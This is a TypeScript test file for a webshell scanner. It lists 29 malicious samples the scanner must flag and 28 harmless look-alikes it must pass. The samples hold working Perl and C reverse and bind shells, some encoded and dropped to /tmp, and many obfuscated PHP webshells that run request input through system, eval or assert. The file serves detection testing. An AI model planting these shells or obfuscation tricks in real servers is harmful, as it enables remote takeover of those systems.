import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { createScanner } from './scanner.js';

// Session 35: the techniques of the real webshells the held-out sets H8 to H11 missed at their first scan
// (bench/redteam/README-corpus-s35.md), and the open respellings of session 34's rules, written again by us as
// harmless pages, each with look-alikes an application may hold. Nothing here is copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const b64 = (t: string | Buffer) => Buffer.from(t).toString('base64');
const wrap = (s: string, n: number, sep = '\n') => s.match(new RegExp(`.{1,${n}}`, 'g'))!.join(sep);

// (scripts of our own a dropper writes out: a Perl connect-back, a Perl listener, a C connect-back; never run)
const PERL_BACK = `#!/usr/bin/perl\nuse Socket;\n$h = $ARGV[0]; $p = $ARGV[1];\nsocket(SK, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die "socket: $!";\nconnect(SK, sockaddr_in($p, inet_aton($h))) or die "connect: $!";\nopen(STDIN, ">&SK"); open(STDOUT, ">&SK"); open(STDERR, ">&SK");\nsystem("/bin/sh");\n`;
const PERL_BIND = `#!/usr/bin/env perl\nuse Socket;\nsocket(L, &PF_INET, &SOCK_STREAM, getprotobyname('tcp')) || die;\nbind(L, sockaddr_in($ARGV[0], INADDR_ANY)) || die;\nlisten(L, 1) || die;\naccept(C, L);\nopen STDIN, "<&C"; open STDOUT, ">&C"; open STDERR, ">&C";\nexec "/bin/sh -i";\n`;
const C_BACK = `#include <stdlib.h>\n#include <sys/socket.h>\n#include <netinet/in.h>\nint main(int c, char **v) {\n  struct sockaddr_in a; int s = socket(AF_INET, SOCK_STREAM, 0);\n  a.sin_family = AF_INET; a.sin_port = htons(atoi(v[2])); a.sin_addr.s_addr = inet_addr(v[1]);\n  connect(s, (struct sockaddr *)&a, sizeof a);\n  dup2(s, 0); dup2(s, 1); dup2(s, 2);\n  execl("/bin/sh", "sh", (char *)0);\n  return 0;\n}\n`;

const MALICIOUS: [string, string, string][] = [
  ['PHP 4\'s long POST array read through $GLOBALS, then a command run', '/var/www/html/a.php', `<?php\n$c = $GLOBALS['HTTP_POST_VARS']['c'];\nsystem($c);\n`],
  ['PHP 4\'s long GET array read through ${\'...\'}, then evaluated', '/var/www/html/b.php', `<?php\n$v = \${'HTTP_GET_VARS'};\neval($v['x']);\n`],
  ['a Perl connect-back in base64 wrapped at 76, written out and run with an address from the request', '/var/www/html/d.php', `<?php\n$pl = "${wrap(b64(PERL_BACK), 76)}";\n$f = fopen('/tmp/.c', 'w'); fwrite($f, base64_decode($pl)); fclose($f);\n$out = run('perl /tmp/.c ' . $_POST['h'] . ' ' . $_POST['p']);\n`],
  ['a Perl listener in base64 wrapped at 76 with CRLF, written out, started with an undefined command (a cut fragment)', '/var/www/html/e.php', `<?php\n$bind = "${wrap(b64(PERL_BIND), 76, '\r\n')}";\n@file_put_contents($tmp, base64_decode($bind));\n$command = 'perl ' . $tmp . ' ' . $_POST['port'];\nrun($cmd);\n`],
  ['a C connect-back deflated, in base64 lines of 100 split by spaces and blank lines', '/var/www/html/f.php', `<?php\n$c = "${wrap(b64(deflateRawSync(Buffer.from(C_BACK))), 100, ' \n\n')}";\nfile_put_contents('bc.c', gzinflate(base64_decode($c)));\nshell_exec('gcc -o bc bc.c');\n`],
  ['a C connect-back in base64 pieces joined by "."', '/var/www/html/g.php', `<?php\n$c = "${wrap(b64(C_BACK), 90, '" .\n    "')}";\n$h = fopen('/tmp/bc.c', 'wb'); fwrite($h, base64_decode($c)); fclose($h);\n`],
  ['a command wrapper given the request\'s option beside the code\'s own script path', '/var/www/html/h.php', `<?php\nfunction runit($c) {\n  $c = $c . ' 2>&1';\n  if (is_callable('exec')) { @exec($c, $lines); return implode("\\n", $lines); }\n  return '';\n}\n$opt = $_GET['opt'];\n$script = getcwd() . '/' . md5(time());\nif (file_put_contents($script, 'print(1)') !== false) { echo runit('python ' . $opt . ' ' . $script); unlink($script); }\n`],
  ['the request\'s C source written to a file, compiled and run through a command wrapper', '/var/www/html/i.php', `<?php\nfunction sh($c) { ob_start(); system($c . ' 2>&1'); return ob_get_clean(); }\n$src = $_REQUEST['src'];\n$n = md5(rand());\nfile_put_contents($n . '.c', $src);\necho sh('gcc ' . $n . '.c -o ' . $n . '.bin');\necho sh('./' . $n . '.bin');\n`],
  ['the request\'s Java wrapped in a class of its own, written out and compiled', '/var/www/html/j.php', `<?php\nfunction sh($c) { return shell_exec($c); }\n$gp = array_merge($_POST, $_GET);\n$code = $gp['code'];\n$k = 'K' . substr(md5(time()), 0, 8);\n$code = "class " . $k . " { " . $code . " }";\nif (file_put_contents($k . '.java', $code) !== false) { echo sh('javac ' . $k . '.java'); echo sh('java ' . $k); }\n`],
  ['a command built from a value of the whole $_SERVER picked by position', '/var/www/html/k.php', `<?php\n$v = array_values($_SERVER);\n$r = system('' . $v[6]);\n`],
  ['a name built by str_replace from a name\'s own first assignment joined to itself, padded with junk', '/var/www/html/l.php', `<?php\n$f = $f . substr("zzstr_rzz", 2, 5);\n$junk1 = trim("q9x");\n$f = $f . substr("eplaceqq", 0, 6);\n$g = $g . $f("Q", "", "creQatQe_fQunctQion");\n$b = $f("Z", "", "ZQGZV2YWwZoJF9QT1NUWyJ4Il0pOw==");\n$run = $g("", base64_decode($b));\n$run();\n`],
  ['eval of code made by str_replace from a literal holding an escaped dollar sign', '/var/www/html/m.php', `<?php\n$a = "XXYY(\\$ZZPOST['k']);";\n$b = str_replace("XX", "ev", $a);\n$a = str_replace("YY", "al", $b);\n$b = str_replace("ZZ", "_", $a);\nif ($a !== $b) eval($b);\n`],
  ['eval of the file\'s own substitution decoder, whose base64 decoder\'s name is joined from two pieces', '/var/www/html/n.php', `<?php\nfunction unmap($s, $m) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= isset($m[$s[$i]]) ? $m[$s[$i]] : $s[$i]; $d = "base" . "64_decode"; return $d($o); }\n$blob = '${b64(Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 73 + 41) % 251)))}';\n$map = array('A' => 'B', 'B' => 'A');\neval/*x*/(unmap($blob, $map));\n`],
  ['yaml_parse with a tag callback of preg_replace, the tag from the request', '/var/www/html/o.php', `<?php\n$t = urlencode($_REQUEST['t']);\n$doc = "x: !{$t} \\"|.+|e\\"";\nyaml_parse($doc, 0, $n, array("!{$_REQUEST['t']}" => 'preg_replace'));\n`],
  ['a session save handler whose read handler is assert, the session id from the request', '/var/www/html/p.php', `<?php\n$h = chr(97) . chr(115) . chr(115) . chr(101) . chr(114) . chr(116);\nfunction o($p, $n) { return true; } function c() { return true; } function w($i, $d) { return true; } function d($i) { return true; } function g($l) { return true; }\nsession_id($_REQUEST['sid']);\nsession_set_save_handler('o', 'c', $h, 'w', 'd', 'g');\n@session_start();\n`],
  ['a call of a variable named by underscores, its name made by ~ of bytes picked out of strings', '/var/www/html/q.php', `<?php\n$__ = 2; $_ = 1;\n$____ = '';\n$___ = "\\x9e\\x8c"; $____ .= ~($___{$__ - 2}); $____ .= ~($___{$_});\n$_____ = '_'; $___ = "\\xaf\\xb0"; $_____ .= ~($___{0});\n$_ = $$_____;\n$____($_[_]);\n`],
  ['a register_globals command form whose command has a default only when the field is empty', '/var/www/html/s.php', `<?php\nif ($cmd == "") { $cmd = 'dir /x'; }\necho '<pre>'; system($cmd); echo '</pre>';\n?>\n<form method="post"><input type="text" name="cmd" value=""><input type="submit"></form>\n`],
  ['a function name made by ~ of high bytes, called with request input', '/var/www/html/t.php', Buffer.from([...Buffer.from('<?php $x=~'), 0xbe, 0xac, 0xac, 0xba, 0xad, 0xab, ...Buffer.from(";$x($_POST['k']); ?>")]).toString('latin1')],
  ['a variable called with a name and an argument the file\'s own hex character decoder makes of literals', '/var/www/html/u.php', `<?php\nfunction dh($s, $k) {\n  $t = '';\n  for ($i = 0; $i < strlen($s); $i += 2) $t .= chr(hexdec(substr($s, $i, 2)) - (int) substr($k, ($i / 2) % strlen($k), 1));\n  return $t;\n}\n(@$_ = dh('${Buffer.from(Buffer.from('assert').map((c, i) => c + Number('31'[i % 2]))).toString('hex')}', '13')) . @$_(dh('${Buffer.from(Buffer.from('print 1;').map((c, i) => c + Number('24'[i % 2]))).toString('hex')}', '42'));\n`],
  ['a PHP payload in base64 with a short version piece joined before it (S35A-12)', '/var/www/html/v.php', `<?php\n$p = "v2" . "${b64('<?php @eval($_POST["k"]); ?>' + ' '.repeat(220))}";\neval('?>' . base64_decode(substr($p, 2)));\n`],
  ['a Perl connect-back through IO::Socket::INET and a three-argument open (S35A-18)', '/var/www/cgi-bin/x.pl', `#!/usr/bin/perl\nuse IO::Socket::INET;\n$s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => 'tcp');\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s); open(STDERR, '>&', $s);\nexec('/bin/sh -i');\n`],
  ['a C connect-back with a dup2 loop and execlp of sh (S35A-19)', '/var/www/html/y.c', `#include <sys/socket.h>\nint main() { int s = socket(2, 1, 0); struct sockaddr_in a; connect(s, (void *)&a, sizeof a); for (int i = 0; i < 3; i++) dup2(s, i); execlp("sh", "sh", NULL); }\n`],
  ['the whole $_SERVER read value by value into a command (S35A)', '/var/www/html/w.php', `<?php\nforeach ($_SERVER as $k => $v) if ($k === 'HTTP_X_RUN') system($v);\n`],
  ['a tiny file adding a letter to a name through a reference, then calling it with request input', '/var/www/html/z1.php', `<?php\nfunction add(&$v) { $v = $v . 'm'; }\n$f = 'syste';\nadd($f);\n$f($_GET['c']);\n`],
  ['a tiny file joining a name\'s letters in a loop inside a function given request input', '/var/www/html/z2.php', `<?php\nfunction go($a) {\n  $l = array('s', 'y', 's', 't', 'e', 'm');\n  $f = '';\n  foreach ($l as $c) { $f .= $c; }\n  $f($a);\n}\ngo($_REQUEST['x']);\n`],
  ['create_function whose code asserts its argument, handed to an iterator with request input', '/var/www/html/z3.php', `<?php\n$it = new CallbackFilterIterator(new ArrayIterator(array($_POST['p'])), create_function('$a', 'assert($a);'));\nforeach ($it as $x) echo $x;\n`],
  ['functions named by characters picked from a table in $GLOBALS, read through a name given the whole of $GLOBALS', '/var/www/html/z4.php', `<?php\n$g = $GLOBALS;\n\${"\\x47\\x4c\\x4fB\\x41\\x4c\\x53"}['t'] = "xsyetmavlpo_ECIKU";\n$g[$g['t'][1] . $g['t'][2] . $g['t'][1]] = 1;\n$c = $g[$g['t'][11] . $g['t'][13] . $g['t'][10] . $g['t'][10] . $g['t'][15] . $g['t'][16] . $g['t'][14] . $g['t'][12]];\n$g['t'][3] . $g['t'][6] . $g['t'][7];\n@$g[$g['t'][1] . $g['t'][2] . $g['t'][1] . $g['t'][4] . $g['t'][3] . $g['t'][5]]($c['c']);\n@$g[$g['t'][3] . $g['t'][7] . $g['t'][6] . $g['t'][8]]($c['e']);\n@$g[$g['t'][9] . $g['t'][2] . $g['t'][1] . $g['t'][4]]($c['p']);\n`],
  ['a decoder\'s name joined with a number worked out, (128/2), then called on request input', '/var/www/html/z5.php', `<?php\n$d = 'base' . (128/2) . '_de' . 'code';\n$f = $d('c3lzdGVt');\n$f($_POST['c']);\n`],
  ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
];

const LOOKALIKES: [string, string, string][] = [
  ['an old page printing a value of $GLOBALS[\'HTTP_GET_VARS\'], escaped', '/var/www/html/c.php', `<?php\n$q = $GLOBALS['HTTP_GET_VARS']['q'];\necho htmlspecialchars($q);\n`],
  ['a Perl script copying STDERR to STDOUT and talking to a socket', '/var/www/cgi-bin/status.pl', `#!/usr/bin/perl\nuse Socket;\nopen(STDERR, ">&STDOUT");\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die;\nconnect(S, sockaddr_in(80, inet_aton('127.0.0.1'))) or die;\nprint S "GET / HTTP/1.0\\r\\n\\r\\n"; print while <S>;\n`],
  ['a PHP file holding a certificate in base64 lines of 64 beside base64_decode', '/var/www/html/cert.php', `<?php\n$pem = "-----BEGIN CERTIFICATE-----\n${wrap(b64(Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 151 + 7) % 256))), 64)}\n-----END CERTIFICATE-----\n";\n$der = base64_decode(preg_replace('/-----[^-]+-----|\\s/', '', $pem));\necho strlen($der);\n`],
  ['an image resizer writing the upload to a file and converting it', '/var/www/html/resize.php', `<?php\nfunction sh($c) { exec($c, $o, $rc); return $rc; }\n$tmp = tempnam('/tmp', 'img');\nfile_put_contents($tmp, file_get_contents($_FILES['f']['tmp_name']));\nsh('convert ' . escapeshellarg($tmp) . ' -resize 200x200 ' . escapeshellarg($tmp . '.png'));\n`],
  ['a command wrapper given a fixed command and an escaped request value', '/var/www/html/ping.php', `<?php\nfunction sh($c) { exec($c, $lines); return implode("\\n", $lines); }\necho sh('ping -c 1 ' . escapeshellarg($_GET['host']));\n`],
  ['a page printing every server variable', '/var/www/html/info.php', `<?php\nforeach (array_values($_SERVER) as $i => $v) echo htmlspecialchars($i . ': ' . $v), "<br>";\n`],
  ['a value made of the request\'s own, printed escaped', '/var/www/html/greet.php', `<?php\n$n = $_GET['n'];\n$n = 'Hello, ' . $n . '!';\necho htmlspecialchars($n);\n`],
  ['yaml_parse with tag callbacks of the application\'s own', '/var/www/html/conf.php', `<?php\n$cfg = yaml_parse(file_get_contents('app.yml'), 0, $n, array('!date' => 'strtotime', '!env' => 'getenv'));\n`],
  ['a session save handler object of the application', '/var/www/html/sess.php', `<?php\nclass DbSession implements SessionHandlerInterface { public function open($p, $n): bool { return true; } public function close(): bool { return true; } public function read($id): string|false { return ''; } public function write($id, $d): bool { return true; } public function destroy($id): bool { return true; } public function gc($l): int|false { return 0; } }\nsession_set_save_handler(new DbSession(), true);\nsession_id($_COOKIE['sid'] ?? session_create_id());\nsession_start();\n`],
  ['a translation helper named by underscores', '/var/www/html/i18n.php', `<?php\nfunction __($s) { return $GLOBALS['_L'][$s] ?? $s; }\n$__ = '__';\necho $__('Hello');\n$_ = $_GET;\necho htmlspecialchars(__($_['msg'] ?? 'Welcome'));\n`],
  ['a disk report by drive letter, with no folder listed', '/var/www/html/disks.php', `<?php\n$unit = $_GET['unit'] === 'mb' ? 1048576 : 1073741824;\nforeach (range('c', 'z') as $l) if (is_dir($l . ':')) printf('%s: %.1f free<br>', $l, disk_free_space($l . ':') / $unit);\n`],
  ['a command form whose command is set from a fixed list in a loop', '/var/www/html/jobs.php', `<?php\nforeach (array('uptime', 'df -h') as $cmd) { echo '<pre>'; system($cmd); echo '</pre>'; }\n?>\n<form method="post"><select name="cmd"><option>uptime</option></select></form>\n`],
  ['a bit mask made by ~ beside a request parameter', '/var/www/html/mask.php', `<?php\n$m = ~0x0f;\n$f = 'intval';\necho $f($_GET['n']) & $m;\n`],
  ['a hex decoder of the file\'s own making a label, printed; a formatter called by variable', '/var/www/html/hexlabel.php', `<?php\nfunction unhex($s) { $t = ''; for ($i = 0; $i < strlen($s); $i += 2) $t .= chr(hexdec(substr($s, $i, 2))); return $t; }\n$label = unhex('48656c6c6f');\n$fmt = 'strtoupper';\necho $fmt($label);\n`],
  ['a job queue handing a written file to a script of its own as an argument (S35A-1)', '/var/www/html/jobq.php', `<?php\nfunction sh($c) { exec($c . ' > /dev/null 2>&1 &'); }\n$job = tempnam('/tmp', 'job');\nfile_put_contents($job, json_encode($_POST));\nsh('php ' . __DIR__ . '/worker.php ' . escapeshellarg($job));\nsh("php worker.php $job");\n`],
  ['a linter checking a posted snippet with php -l (S35A-3)', '/var/www/html/lint.php', `<?php\nfunction sh($c) { return shell_exec($c); }\n$f = tempnam('/tmp', 'lint');\nfile_put_contents($f, $_POST['code']);\necho sh('php -l ' . $f);\n`],
  ['a thumbnailer writing the upload and converting it to a relative path (S35A-2)', '/var/www/html/thumb.php', `<?php\nfunction sh($c) { exec($c); }\n$in = tempnam('/tmp', 'up');\nfile_put_contents($in, file_get_contents($_FILES['f']['tmp_name']));\nsh('convert ' . $in . ' -resize 64x64 ./thumbs/' . md5($in) . '.png');\n`],
  ['yaml_parse_file with defaults naming a system channel after the call (S35A-4)', '/var/www/html/cfg.php', `<?php\n$c = yaml_parse_file(__DIR__ . '/app.yml') + array('log' => array('channel' => 'system'));\n`],
  ['a session handler set, with a log line after it naming system (S35A-5)', '/var/www/html/sess2.php', `<?php\nif (!session_set_save_handler($h, true)) { Log::channel('system')->error('no handler'); }\n`],
  ['perlipc\'s forking server giving each client its standard input (S35A-7)', '/var/www/cgi-bin/srv.pl', `#!/usr/bin/perl\nuse Socket;\nsocket(Server, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nbind(Server, sockaddr_in(7070, INADDR_ANY)); listen(Server, 5);\nwhile (accept(Client, Server)) { if (!fork) { open(STDIN, "<&Client"); open(STDOUT, ">&Client"); exec './handler.pl'; } }\n`],
  ['a small server running a handler through sh -c for each connection (S35A-8)', '/var/www/html/srv.c', `#include <sys/socket.h>\nint main() { int l = socket(AF_INET, SOCK_STREAM, 0); for (;;) { int c = accept(l, 0, 0); if (!fork()) { dup2(c, 0); dup2(c, 1); execl("/bin/sh", "sh", "-c", "./handler", (char *)0); } } }\n`],
  ['a cron script running a command from $_SERVER\'s DOCUMENT_ROOT through an alias (S35A-10)', '/var/www/html/cron.php', `<?php\n$server = $_SERVER;\nexec('php ' . $server['DOCUMENT_ROOT'] . '/cron/run.php &');\n`],
  ['a backup plugin\'s destination picker listing drives for an administrator (S35A-6)', '/var/www/html/pick.php', `<?php\nif (!current_user_can('manage_options')) wp_die();\nforeach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l;\n$base = isset($_GET['browse']) ? realpath($_GET['browse']) : 'C:';\nforeach (glob($base . '/*', GLOB_ONLYDIR) as $d) echo esc_html($d);\n`],
  ['a tiny file calling a formatter named by a literal with request input', '/var/www/html/fmt.php', `<?php\n$f = 'htmlspecialchars';\necho $f($_GET['q']);\n`],
  ['a tiny file calling a formatter joined from literals with request input', '/var/www/html/fmt2.php', `<?php\n$f = 'str' . 'toupper';\necho htmlspecialchars($f($_GET['q']));\n`],
  ['a page reading a setting through a name given the whole of $GLOBALS', '/var/www/html/glob.php', `<?php\n$g = $GLOBALS;\n$GLOBALS['site'] = 'Example';\necho htmlspecialchars($g['site'] . ': ' . ($_GET['p'] ?? ''));\n`],
  ['create_function returning its argument trimmed, over request input', '/var/www/html/trim.php', `<?php\n$t = create_function('$a', 'return trim($a);');\necho htmlspecialchars($t($_GET['q']));\n`],
  ['a string with an escaped dollar sign and a str_replace, printed', '/var/www/html/price.php', `<?php\n$t = "Price: \\$AMOUNT";\n$t = str_replace('AMOUNT', number_format((float) $_GET['p'], 2), $t);\necho htmlspecialchars($t);\n`],
];

describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 29));

  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 28));
});
